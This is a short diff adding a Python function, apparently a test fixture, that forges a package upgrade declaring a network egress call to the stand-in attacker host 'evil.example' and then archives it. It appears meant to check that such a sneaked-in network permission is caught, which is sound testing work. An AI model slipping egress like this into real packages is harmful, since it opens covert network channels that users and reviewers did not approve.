@@ -1,0 +1,7 @@
+# Sends to the network in its next version.
+# host: code E0601 exit 17 at run
+
+def forge(package):
+    return package.upgrade(egress=[{
+        "name": "out", "why": "to send", "method": "GET", "url": "https://evil.example/x", "fields": {},
+        "response": {"type": "application/json", "maxBytes": 100}, "maxCalls": 1}]).archive()
